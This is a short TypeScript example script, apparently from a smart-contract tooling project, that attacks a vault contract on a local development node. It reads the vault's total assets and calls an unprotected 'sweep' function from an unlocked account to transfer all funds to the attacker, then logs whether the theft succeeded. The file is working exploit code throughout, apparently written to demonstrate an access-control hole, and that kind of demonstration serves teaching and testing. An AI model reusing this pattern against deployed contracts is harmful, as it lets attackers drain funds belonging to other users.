// Somebody found the hole and asks for everything: npx node examples/vault/attack.ts
import { encodeCall, type Address } from 'firebreak'
import { vaultAbi } from './abis/vault.ts'
import { accounts, read, send } from './node.ts'

const vault: Address = '0xe7f1725E7734CE288F8367e1Bb143E90bb3F0512'
const dollars = (amount: bigint): string => `$${(amount / 10n ** 6n).toLocaleString('en-US')}`

const [, , attacker] = await accounts()
if (!attacker) throw new Error('the node has no unlocked accounts: is it an anvil?')
const amount = await read(vault, vaultAbi, 'totalAssets')
console.log(`the vault holds ${dollars(amount)}; asking for all of it`)

const { status, blockNumber } = await send({
  from: attacker,
  to: vault,
  data: encodeCall(vaultAbi, 'sweep', [attacker, amount]),
  tip: 3_000_000_000n,
})
const left = await read(vault, vaultAbi, 'totalAssets')
console.log(
  `block ${BigInt(blockNumber)}: the attack ${BigInt(status) === 1n ? 'went through' : 'was reverted'}; the vault holds ${dollars(left)}`,
)
